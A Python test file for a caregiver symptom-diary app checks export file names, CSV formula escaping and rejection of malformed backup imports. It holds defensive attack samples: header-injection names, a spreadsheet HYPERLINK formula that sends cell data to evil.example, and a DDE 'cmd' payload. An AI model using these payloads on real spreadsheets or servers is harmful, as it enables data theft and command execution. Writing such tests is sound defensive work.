"""Files in and out: exports named in every script we ship, spreadsheets that run no formula,
backups held to the forms' rules."""
import copy
import csv
import html
import io
import json
import re
import urllib.parse
import urllib.request
from datetime import datetime

import pytest
from sqlalchemy import func, select
from werkzeug.http import parse_options_header

from caregiver.extensions import db
from caregiver.models import CustomSymptom, Entry, Patient

from .conftest import PASSWORD, make_patient, make_user, sign_in
from .test_ownership import edge_case_diary
from .servers import Server, signed_in_opener

EXPORTS = ("export.json", "export.csv", "export.fhir.json")
# A name in each script of the languages we ship (i18n.LANGUAGES), Latin with accents, and names
# made to break out of the header: quotes, a semicolon with a second file name, a line break.
NAMES = {
    "hi": "रवि कुमार", "bn": "রবি কুমার", "ta": "தமிழ்செல்வி", "ar": "محمد علي",
    "es": "José Núñez", "fr": "Françoise Lefèvre", "pt_BR": "João Conceição",
    "quotes": 'Ravi "Ravi" O\'Neil', "semicolon": 'Ravi; filename="evil.exe"', "newline": "Ravi\r\nSet-Cookie: x=1",
}


def letters(text):
    return "".join(c for c in text if c.isalpha())


def check_attachment(header, name, suffix):
    """The header is plain ASCII, names one file, and that name keeps the diary's letters."""
    header.encode("ascii")  # what gunicorn refused to send
    assert "\r" not in header and "\n" not in header and header.count("filename=") == 1
    disposition, options = parse_options_header(header)  # decodes filename* (RFC 5987) when given
    assert disposition == "attachment"
    file_name = options["filename"]
    assert file_name.startswith("mnd-diary-") and file_name.endswith("." + suffix)
    assert letters(name).replace("filename", "") in letters(file_name).replace("filename", "")
    assert "/" not in file_name and '"' not in file_name and ";" not in file_name


@pytest.fixture
def named_diaries(app):
    owner = make_user(app)
    return {language: make_patient(app, owner, name=name) for language, name in NAMES.items()}


def test_every_export_is_named_in_the_diarys_own_script(app, client, named_diaries):
    sign_in(client)
    for language, patient_id in named_diaries.items():
        for export in EXPORTS:
            response = client.get(f"/patients/{patient_id}/{export}")
            assert response.status_code == 200, (language, export)
            check_attachment(response.headers["Content-Disposition"], NAMES[language], export.removeprefix("export."))
            assert response.headers["Cache-Control"] == "no-store"


def test_every_export_downloads_under_gunicorn_in_every_script(app, database_url, named_diaries):
    """The bug was a 500 from gunicorn, which refuses a header it cannot write as Latin-1."""
    server = Server(database_url)
    try:
        opener, _token = signed_in_opener(server, "carer@example.org", PASSWORD)
        for language, patient_id in named_diaries.items():
            for export in EXPORTS:
                with opener.open(server.url(f"/patients/{patient_id}/{export}")) as response:
                    assert response.status == 200, (language, export)
                    assert response.read()
                    check_attachment(response.headers["Content-Disposition"], NAMES[language],
                                     export.removeprefix("export."))
    finally:
        server.stop()


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
            "=1+1", "-cmd|' /C calc'!A0"]


def test_csv_cells_that_start_like_a_formula_are_text_and_numbers_stay_numbers(app, client):
    owner = make_user(app)
    patient_id = make_patient(app, owner)
    with app.app_context():
        own = CustomSymptom(patient_id=patient_id, name="=2+5", group="general")
        db.session.add(own)
        db.session.flush()
        db.session.add(Entry(patient_id=patient_id, kind="symptom", custom_symptom_id=own.id, severity=3, tz="UTC",
                             occurred_at=datetime(2026, 1, 4, 10)))
        for minute, formula in enumerate(FORMULAS):
            db.session.add(Entry(patient_id=patient_id, kind="question", note=formula, tz="UTC",
                                 occurred_at=datetime(2026, 1, 5, 10, minute)))
        db.session.add(Entry(patient_id=patient_id, kind="medication", name="=cmd", dose="-1 tablet", tz="UTC",
                             occurred_at=datetime(2026, 1, 6, 12)))
        db.session.add(Entry(patient_id=patient_id, kind="weight", value=-2.5, note="-2.5", tz="UTC",
                             occurred_at=datetime(2026, 1, 7, 9)))
        db.session.commit()
    sign_in(client)
    rows = list(csv.DictReader(io.StringIO(client.get(f"/patients/{patient_id}/export.csv").get_data(as_text=True))))
    notes = [row["note"] for row in rows if row["kind"] == "question"]
    assert notes == ["'" + formula for formula in FORMULAS]  # shown as written, run never
    assert next(row for row in rows if row["kind"] == "symptom")["symptom"] == "'=2+5"
    medicine = next(row for row in rows if row["kind"] == "medication")
    assert medicine["name"] == "'=cmd" and medicine["dose"] == "'-1 tablet"
    weight = next(row for row in rows if row["kind"] == "weight")
    assert weight["value"] == "-2.5" and float(weight["value"]) == -2.5 and weight["note"] == "-2.5"
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")) and (
                not cell.startswith("-") or float(cell) < 0), (column, cell)


# --- Backups held to the forms' rules -------------------------------------------------------

def base_backup(app, client):
    """A backup of a diary with one entry of every kind, as the app writes it."""
    owner = make_user(app)
    edge_case_diary(app, owner)
    sign_in(client)
    with app.app_context():
        patient_id = db.session.scalar(select(func.max(Patient.id)))
    return json.loads(client.get(f"/patients/{patient_id}/export.json").data)


def entry_of(backup, kind, test=lambda entry: True):
    return next(entry for entry in backup["entries"] if entry["kind"] == kind and test(entry))


def symptom(backup):
    return entry_of(backup, "symptom", lambda entry: entry["symptom"] == "cramps")


def setter(part, key, value):
    """A change to a backup: `part` finds a dict in it (the profile, an entry), key gets value."""
    def change(backup):
        part(backup)[key] = value
    return change


def dropper(part, key):
    def change(backup):
        del part(backup)[key]
    return change


def profile(backup):
    return backup["patient"]


def first_custom(backup):
    return backup["custom_symptoms"][0]


def renamed_custom(name):
    """The family's first symptom renamed, and its entries with it."""
    def change(backup):
        old = first_custom(backup)["name"]
        first_custom(backup)["name"] = name
        for entry in backup["entries"]:
            if entry["custom_symptom"] == old:
                entry["custom_symptom"] = name
    return change


def kind(name):
    return lambda backup: entry_of(backup, name)


def deep(levels):
    value = "bottom"
    for _level in range(levels):
        value = [value]
    return value


HUGE = 10 ** 40
NAN, INFINITY = float("nan"), float("inf")
# Crafted backups the forms would refuse, each named after what is wrong: (name, change, the part
# the message must name).
REFUSED = [
    ("a list as the name", setter(profile, "display_name", ["Ravi"]), "The profile"),
    ("a 2 MB name", setter(profile, "display_name", "R" * 2_000_000), "The profile"),
    ("an 81-letter name", setter(profile, "display_name", "R" * 81), "The profile"),
    ("an empty name", setter(profile, "display_name", ""), "The profile"),
    ("no name", dropper(profile, "display_name"), "The profile"),
    ("a name of spaces", setter(profile, "display_name", "   "), "The profile"),
    ("a NUL in the name", setter(profile, "display_name", "Ra\x00vi"), "The profile"),
    ("born in 1000", setter(profile, "birth_year", 1000), "The profile"),
    ("born in 9999", setter(profile, "birth_year", 9999), "The profile"),
    ("a year as text", setter(profile, "birth_year", "1970"), "The profile"),
    ("a huge year", setter(profile, "birth_year", HUGE), "The profile"),
    ("an unknown diagnosis", setter(profile, "diagnosis", "flu"), "The profile"),
    ("an unknown unit", setter(profile, "weight_unit", "stone"), "The profile"),
    ("a NaN height", setter(profile, "height_cm", NAN), "The profile"),
    ("an infinite height", setter(profile, "height_cm", INFINITY), "The profile"),
    ("a negative height", setter(profile, "height_cm", -5), "The profile"),
    ("a 10 m height", setter(profile, "height_cm", 1000), "The profile"),
    ("a NaN usual weight", setter(profile, "usual_weight_kg", NAN), "The profile"),
    ("a negative usual weight", setter(profile, "usual_weight_kg", -1), "The profile"),
    ("onset in year 1", setter(profile, "onset_month", "0001-01-01"), "The profile"),
    ("onset in 9999", setter(profile, "onset_month", "9999-12-01"), "The profile"),
    ("onset in month 13", setter(profile, "onset_month", "2026-13-01"), "The profile"),
    ("allergies over 500 letters", setter(profile, "allergies", "a" * 501), "The profile"),
    ("a NUL in the neurologist", setter(profile, "neurologist", "Dr\x00X"), "The profile"),
    ("a profile made in year 1", setter(profile, "created_at", "0001-01-01T00:00:00"), "The profile"),
    ("unknown breathing support", setter(profile, "breathing_support", "rocket"), "The profile"),
    ("a feeding tube as text", setter(profile, "feeding_tube", "yes"), "The profile"),
    ("a place of its own as the profile", setter(profile, "onset_region", "moon"), "The profile"),
    ("two symptoms of one name", lambda backup: backup["custom_symptoms"].append(dict(first_custom(backup))),
     "own symptom number 2"),
    ("a list as a symptom name", setter(first_custom, "name", ["Hiccups"]), "own symptom number 1"),
    ("a 2 MB symptom name", setter(first_custom, "name", "h" * 2_000_000), "own symptom number 1"),
    ("an 81-letter symptom name", renamed_custom("h" * 81), "own symptom number 1"),
    ("an empty symptom name", renamed_custom(""), "own symptom number 1"),
    ("a symptom of no group", setter(first_custom, "group", "unknown"), "own symptom number 1"),
    ("severity -5", setter(symptom, "severity", -5), "Entry number"),
    ("severity 1000", setter(symptom, "severity", 1000), "Entry number"),
    ("severity 5.5", setter(symptom, "severity", 5.5), "Entry number"),
    ("severity as text", setter(symptom, "severity", "3"), "Entry number"),
    ("severity NaN", setter(symptom, "severity", NAN), "Entry number"),
    ("a huge severity", setter(symptom, "severity", HUGE), "Entry number"),
    ("severity yes", setter(symptom, "severity", True), "Entry number"),
    ("an unknown place", setter(symptom, "region", "moon"), "Entry number"),
    ("an unknown side", setter(symptom, "side", "middle"), "Entry number"),
    ("an unknown duration", setter(symptom, "duration", "forever"), "Entry number"),
    ("an unknown frequency", setter(symptom, "frequency", "always"), "Entry number"),
    ("an unknown symptom", setter(symptom, "symptom", "not-a-symptom"), "Entry number"),
    ("a fall as a symptom", setter(symptom, "symptom", "falls"), "Entry number"),
    ("an unlisted own symptom", setter(symptom, "custom_symptom", "Nowhere"), "Entry number"),
    ("no time", setter(symptom, "occurred_at", None), "Entry number"),
    ("year 1", setter(symptom, "occurred_at", "0001-01-01T00:00:00+00:00"), "Entry number"),
    ("year 1 east of UTC", setter(symptom, "occurred_at", "0001-01-01T00:30:00+05:30"), "Entry number"),
    ("year 1 west of UTC", setter(symptom, "occurred_at", "0001-01-01T00:30:00-05:00"), "Entry number"),
    ("year 9999 west of UTC", setter(symptom, "occurred_at", "9999-12-31T23:59:00-05:00"), "Entry number"),
    ("year 9999 east of UTC", setter(symptom, "occurred_at", "9999-12-31T23:59:00+14:00"), "Entry number"),
    ("next year", setter(symptom, "occurred_at", f"{datetime.now().year + 1}-06-01T10:00:00+00:00"), "Entry number"),
    ("a time without offset", setter(symptom, "occurred_at", "2026-01-01T10:00:00"), "Entry number"),
    ("a time that is not one", setter(symptom, "occurred_at", "yesterday"), "Entry number"),
    ("a list as a time", setter(symptom, "occurred_at", ["2026-01-01T10:00:00+00:00"]), "Entry number"),
    ("an unknown zone", setter(symptom, "tz", "Mars/Olympus_Mons"), "Entry number"),
    ("an empty zone", setter(symptom, "tz", ""), "Entry number"),
    ("an unknown kind", setter(symptom, "kind", "spell"), "Entry number"),
    ("an unknown reporter", setter(symptom, "source", "dog"), "Entry number"),
    ("a NUL in a note", setter(symptom, "note", "a\x00b"), "Entry number"),
    ("a note over 5000 letters", setter(symptom, "note", "n" * 5001), "Entry number"),
    ("a 2 MB note", setter(symptom, "note", "n" * 2_000_000), "Entry number"),
    ("a note nested 20 deep", setter(symptom, "note", deep(20)), "Entry number"),
    ("a list as a note", setter(symptom, "note", ["a"]), "Entry number"),
    ("a NaN weight", setter(kind("weight"), "value", NAN), "Entry number"),
    ("a negative weight", setter(kind("weight"), "value", -2.5), "Entry number"),
    ("a weight of a tonne", setter(kind("weight"), "value", 1000), "Entry number"),
    ("a weight as text", setter(kind("weight"), "value", "61"), "Entry number"),
    ("a coping score of 11", setter(kind("carer"), "value", 11), "Entry number"),
    ("a coping score of 7.5", setter(kind("carer"), "value", 7.5), "Entry number"),
    ("a check-in score of 5", lambda backup: entry_of(backup, "checkin")["checkin"].update(speech=5), "Entry number"),
    ("a check-in score of -1", lambda backup: entry_of(backup, "checkin")["checkin"].update(speech=-1), "Entry number"),
    ("a check-in without speech", lambda backup: entry_of(backup, "checkin")["checkin"].pop("speech"), "Entry number"),
    ("a check-in of an unknown area", lambda backup: entry_of(backup, "checkin")["checkin"].update(flying=2),
     "Entry number"),
    ("check-in scores on a symptom", setter(symptom, "checkin", {"speech": 2}), "Entry number"),
    ("a medicine name of 121 letters", setter(kind("medication"), "name", "m" * 121), "Entry number"),
    ("a medicine without a name", setter(kind("medication"), "name", None), "Entry number"),
    ("a dose of 121 letters", setter(kind("medication"), "dose", "d" * 121), "Entry number"),
    ("stopped before it started", setter(kind("medication"), "ended_on", "2000-01-01"), "Entry number"),
    ("stopped in 9999", setter(kind("medication"), "ended_on", "9999-12-31"), "Entry number"),
    ("an empty question", setter(kind("question"), "note", ""), "Entry number"),
    ("a question over 1000 letters", setter(kind("question"), "note", "q" * 1001), "Entry number"),
    ("a value on a question", setter(kind("question"), "value", 3.0), "Entry number"),
    ("an unknown event", setter(kind("event"), "event_type", "explosion"), "Entry number"),
    ("injured as text", setter(kind("event"), "injured", "yes"), "Entry number"),
    ("a mask problem as text", setter(kind("carer"), "mask_problem", "True"), "Entry number"),
    ("edited in year 9999", setter(symptom, "updated_at", "9999-12-31T23:59:00-10:00"), "Entry number"),
    ("deleted in year 1", setter(kind("event"), "deleted_at", "0001-01-01T00:00:00+05:00"), "Entry number"),
    ("an unknown change", lambda backup: symptom(backup)["history"].append(
        {"action": "hacked", "at": "2026-03-30T10:00:00+01:00", "changes": None}), "Entry number"),
    ("a change in year 1", lambda backup: symptom(backup)["history"].append(
        {"action": "edited", "at": "0001-01-01T00:00:00+05:00", "changes": None}), "Entry number"),
    ("a change nested deep", lambda backup: symptom(backup)["history"].append(
        {"action": "edited", "at": "2026-03-30T10:00:00+01:00", "changes": {"note": [deep(5), None]}}), "Entry number"),
    ("a change of 2 MB", lambda backup: symptom(backup)["history"].append(
        {"action": "edited", "at": "2026-03-30T10:00:00+01:00", "changes": {"note": ["c" * 2_000_000, None]}}),
     "Entry number"),
    ("2000 changes", lambda backup: symptom(backup)["history"].extend(
        [{"action": "edited", "at": "2026-03-30T10:00:00+01:00", "changes": None}] * 2000), "Entry number"),
    ("an entry that is a list", lambda backup: backup["entries"].append([1, 2]), "Entry number"),
    ("an entry that is a number", lambda backup: backup["entries"].append(7), "Entry number"),
]

# Files that are not backups at all: refused whole, before any part is read.
NOT_BACKUPS = [
    ("not JSON", b"not json"),
    ("nested 100,000 deep", b"[" * 100_000 + b"]" * 100_000),
    ("an entry nested 100,000 deep", b'{"format": "mnd-diary-backup", "version": 1, "patient": {}, "entries": ['
     + b"[" * 100_000 + b"]" * 100_000 + b"]}"),
    ("an integer of 5000 digits", b'{"format": "mnd-diary-backup", "version": 1, "patient": {"birth_year": '
     + b"9" * 5000 + b'}, "entries": []}'),
    ("another format", json.dumps({"format": "other", "version": 1}).encode()),
    ("a newer version", json.dumps({"format": "mnd-diary-backup", "version": 2, "patient": {}, "entries": []}).encode()),
    ("entries that are not a list", json.dumps({"format": "mnd-diary-backup", "version": 1, "patient": {},
                                                 "entries": {"a": 1}}).encode()),
    ("too many entries", json.dumps({"format": "mnd-diary-backup", "version": 1, "patient": {},
                                      "entries": [{}] * 200_001}).encode()),
    ("Latin-1 bytes", "é".encode("latin-1")),
]


# Backups the forms accept at their edges: each is imported, and every page of it answers.
ACCEPTED = [
    ("the backup as written", lambda backup: None),
    ("severity 0 and 10", lambda backup: (setter(symptom, "severity", 10)(backup),
                                           setter(kind("symptom"), "severity", 0)(backup))),
    ("a note of 5000 letters", setter(symptom, "note", "n" * 5000)),
    ("an 80-letter Tamil name", setter(profile, "display_name", ("தமிழ்" * 20)[:80])),
    ("an 80-letter Devanagari symptom", renamed_custom(("हिचकी" * 20)[:80])),
    ("1900 east of UTC (1899 in UTC)", lambda backup: (setter(symptom, "tz", "Asia/Kolkata")(backup),
                                                        setter(symptom, "occurred_at", "1900-01-01T00:30:00+05:30")(backup))),
    ("1900 west of UTC", lambda backup: (setter(kind("weight"), "tz", "Pacific/Honolulu")(backup),
                                         setter(kind("weight"), "occurred_at", "1900-01-01T00:30:00-10:30")(backup))),
    ("the far east of the world", lambda backup: (setter(symptom, "tz", "Pacific/Kiritimati")(backup),
                                                   setter(symptom, "occurred_at", "2026-01-01T00:10:00+14:00")(backup))),
    ("the far west of the world", lambda backup: (setter(symptom, "tz", "Pacific/Pago_Pago")(backup),
                                                   setter(symptom, "occurred_at", "2025-12-31T23:50:00-11:00")(backup))),
    ("weights at the limits", lambda backup: backup["entries"].append(
        dict(entry_of(backup, "weight"), value=300.0 * 0.99, occurred_at="2026-01-03T00:00:00+00:00"))),
]
PAGES = ("/", "/history", "/history?range=custom&since=1900-01-01&until=9999-12-31", "/trends",
         "/trends?range=all", "/report/summary.pdf?range=all", "/report/summary.pdf", "/export.fhir.json",
         "/export.csv", "/export.json", "/emergency-card")


def import_file(client, content):
    return client.post("/patients/import", data={"backup": (io.BytesIO(content), "backup.json")},
                       content_type="multipart/form-data")


def refusal(page):
    found = re.search(r"Nothing was changed[^<]*", page.get_data(as_text=True))
    return html.unescape(found.group(0)) if found else None


def patient_count(app):
    with app.app_context():
        return db.session.scalar(select(func.count()).select_from(Patient))


def test_every_crafted_backup_is_refused_with_the_part_named_and_nothing_imported(app, client):
    backup = base_backup(app, client)
    patients = patient_count(app)
    tried = 0
    for name, change, part in REFUSED:
        crafted = copy.deepcopy(backup)
        change(crafted)
        page = import_file(client, json.dumps(crafted, ensure_ascii=False).encode())
        assert page.status_code == 200, name
        message = refusal(page)
        assert message and part in message, (name, message)
        assert patient_count(app) == patients, name
        tried += 1
    for name, content in NOT_BACKUPS:
        page = import_file(client, content)
        assert page.status_code == 200 and refusal(page), name
        assert patient_count(app) == patients, name
        tried += 1
    assert tried == len(REFUSED) + len(NOT_BACKUPS) >= 100


def test_backups_at_the_forms_edges_are_imported_and_every_page_of_them_answers(app, client):
    backup = base_backup(app, client)
    for name, change in ACCEPTED:
        crafted = copy.deepcopy(backup)
        change(crafted)
        page = import_file(client, json.dumps(crafted, ensure_ascii=False).encode())
        assert page.status_code == 302, (name, refusal(page))
        with app.app_context():
            patient_id = db.session.scalar(select(func.max(Patient.id)))
            assert len(crafted["entries"]) == db.session.scalar(
                select(func.count()).select_from(Entry).where(Entry.patient_id == patient_id))
        for path in PAGES:
            assert client.get(f"/patients/{patient_id}{path}").status_code == 200, (name, path)


def test_the_demo_familys_two_years_come_back_whole(app, client, demo):
    backup = client.get(f"/patients/{demo}/export.json").data
    page = import_file(client, backup)
    assert page.status_code == 302, refusal(page)
    with app.app_context():
        counts = [db.session.scalar(select(func.count()).select_from(Entry).where(Entry.patient_id == patient_id))
                  for patient_id in (demo, db.session.scalar(select(func.max(Patient.id))))]
    assert counts[0] == counts[1] == len(json.loads(backup)["entries"])
